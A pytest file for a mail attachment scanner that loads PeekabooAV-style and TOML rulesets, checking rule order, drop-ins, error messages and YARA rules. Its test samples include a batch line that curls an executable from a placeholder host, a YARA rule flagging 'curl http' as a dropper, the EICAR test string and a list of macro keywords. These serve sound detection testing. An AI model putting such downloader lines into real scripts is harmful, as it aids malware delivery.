"""PeekabooAV ruleset.conf files are read unchanged; native TOML too; every mistake is named."""

from __future__ import annotations

from pathlib import Path

import pytest

from mailowl.results import Result
from mailowl.rules import RulesetError
from mailowl.rules.loader import default_ruleset_path, load_engine

from .helpers import run

PEEKABOO_STYLE = """\
#
# a PeekabooAV ruleset.conf
#
[rules]
rule.1  : known
rule.2  : file_larger_than
rule.3  : file_type_on_whitelist
rule.4  : file_type_on_greylist
rule.5  : office_macro_with_suspicious_keyword
rule.7  : expressions
rule.12 : final_rule

[file_larger_than]
bytes : 5

[file_type_on_whitelist]
whitelist.1 : text/plain
whitelist.3 : inode/x-empty

[file_type_on_greylist]
greylist.1  : application/octet-stream
greylist.17 : text/x-msdos-batch

[office_macro_with_suspicious_keyword]
keyword.1 : AutoOpen
keyword.2 : AutoClose

[expressions]
expression.1  : {sample.type_declared}|filereport.mime_types <= {
                    'text/plain', 'inode/x-empty'} -> ignore
expression.2  : sample.name_declared == /smime.p7[mcs]/
                    and sample.type_declared in {
                        'application/pkcs7-signature',
                        'application/x-pkcs7-mime'
                    } -> ignore
expression.5  : sample.file_extension in {'bat', 'exe'} -> bad

[cuckoo_score]
higher_than : 4.0
"""


def write(tmp_path: Path, text: str, name: str = "ruleset.conf") -> Path:
    path = tmp_path / name
    path.write_text(text)
    return path


def test_peekaboo_file_is_read_unchanged(tmp_path: Path) -> None:
    eng = load_engine(write(tmp_path, PEEKABOO_STYLE))
    assert eng.rule_names == ["known", "file_larger_than", "file_type_on_whitelist", "file_type_on_greylist",
                              "office_macro_with_suspicious_keyword", "expressions", "final_rule"]
    assert run(eng, b"@echo off\r\n", "x.bat", "application/octet-stream").result is Result.bad
    assert run(eng, b"hello there", "x.txt", "text/plain").result is Result.ignored


def test_dropins_extend_and_clear_lists(tmp_path: Path) -> None:
    path = write(tmp_path, PEEKABOO_STYLE)
    dropins = tmp_path / "ruleset.conf.d"
    dropins.mkdir()
    (dropins / "10-more.conf").write_text("[expressions]\nexpression.9 : sample.file_extension == 'js' -> bad\n")
    (dropins / "README").write_text("not a drop-in: ignored")
    eng = load_engine(path)
    assert run(eng, b"alert(1); // script", "x.js", "application/octet-stream").result is Result.bad
    (dropins / "20-reset.conf").write_text("[expressions]\nexpression.- : -\nexpression.1 : True -> good\n")
    eng = load_engine(path)
    assert run(eng, b"@echo off\r\n", "x.bat", "application/octet-stream").result is Result.good
    (dropins / "30-size.conf").write_text("[file_larger_than]\nbytes : 1000\n")
    assert run(load_engine(path), b"@echo off\r\n", "x.bat").result is Result.ignored


@pytest.mark.parametrize(("change", "message"), [
    (("rule.12 : final_rule", "rule.12 : no_such_rule"), "unknown rule 'no_such_rule'"),
    (("[cuckoo_score]", "[no_such_section]"), "unknown section(s) no_such_section"),
    (("bytes : 5", "bytes : 5\nmegabytes : 1"), "[file_larger_than]: unknown option(s) megabytes"),
    (("bytes : 5", "bytes : five"), "[file_larger_than] bytes: expected a whole number"),
    (("rule.1  : known", "rule.1  : cuckoo_score"), "rule 'cuckoo_score' cannot be enabled: Cuckoo"),
    (("'bat', 'exe'} -> bad", "'bat', 'exe'} or worse -> bad"), "unknown identifier 'worse'"),
    (("expression.5  : sample.file_extension", "expression.5  : sample.extension"),
     "unknown attribute 'extension' of 'sample'"),
    (("whitelist.1 : text/plain\nwhitelist.3 : inode/x-empty", "whitelist : text/plain"), "whitelist"),
    (("[rules]", "[rulez]"), "no [rules] section"),
])
def test_mistakes_are_named(tmp_path: Path, change: tuple[str, str], message: str) -> None:
    old, new = change
    assert old in PEEKABOO_STYLE
    with pytest.raises(RulesetError) as info:
        load_engine(write(tmp_path, PEEKABOO_STYLE.replace(old, new)))
    assert message in str(info.value)
    assert str(tmp_path / "ruleset.conf") in str(info.value)


def test_expression_error_position_in_a_multiline_expression(tmp_path: Path) -> None:
    text = PEEKABOO_STYLE.replace("'application/x-pkcs7-mime'", "'application/x-pkcs7-mime' ==")
    with pytest.raises(RulesetError, match=r"expression \(1\).*line 4, column 28"):
        load_engine(write(tmp_path, text))


def test_empty_rule_list_and_unreadable_files(tmp_path: Path) -> None:
    with pytest.raises(RulesetError, match="rule list is empty"):
        load_engine(write(tmp_path, "[rules]\n"))
    with pytest.raises(RulesetError, match="cannot read"):
        load_engine(tmp_path / "missing.conf")
    with pytest.raises(RulesetError, match="not a valid ruleset file"):
        load_engine(write(tmp_path, "rule.1 = known\n"))
    with pytest.raises(RulesetError, match="not valid TOML"):
        load_engine(write(tmp_path, "rules = [", "r.toml"))


def test_native_toml(tmp_path: Path) -> None:
    path = write(tmp_path, 'rules = ["file_larger_than", "final_rule"]\n[file_larger_than]\nbytes = 100\n', "r.toml")
    eng = load_engine(path)
    assert run(eng, b"x" * 50).result is Result.ignored
    assert run(eng, b"x" * 500).result is Result.unknown


def test_builtin_ruleset_loads() -> None:
    eng = load_engine(default_ruleset_path())
    assert eng.rule_names[0] == "known" and eng.rule_names[-1] == "final_rule"
    assert run(eng, b"@echo off\r\ncurl http://x.invalid/a.exe\r\n", "cat.png.bat",
               "application/octet-stream").result is Result.bad


def test_yara_rule(tmp_path: Path) -> None:
    rules = tmp_path / "yara"
    rules.mkdir()
    (rules / "eicar.yar").write_text(
        'rule Eicar_Test { strings: $a = "EICAR-STANDARD-ANTIVIRUS-TEST-FILE" condition: $a }\n'
        'rule Downloader : dropper { strings: $c = "curl http" condition: $c }\n')
    path = write(tmp_path, f'rules = ["yara", "expressions", "final_rule"]\n[yara]\ndirectory = "{rules}"\n'
                 '[expressions]\nexpression = ["\'dropper\' in yarareport.tags -> good"]\n', "r.toml")
    eng = load_engine(path)
    eicar = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    verdict = run(eng, eicar, "eicar.com")
    assert verdict.result is Result.bad and "Eicar_Test" in verdict.reason
    assert run(eng, b"nothing to see", "x.txt").result is Result.unknown
    (rules / "broken.yar").write_text("rule { broken")
    with pytest.raises(RulesetError, match=r"\[yara\] directory"):
        load_engine(path)
    with pytest.raises(RulesetError, match="not a directory"):
        load_engine(write(tmp_path, 'rules = ["yara"]\n[yara]\ndirectory = "/nonexistent"\n', "r2.toml"))
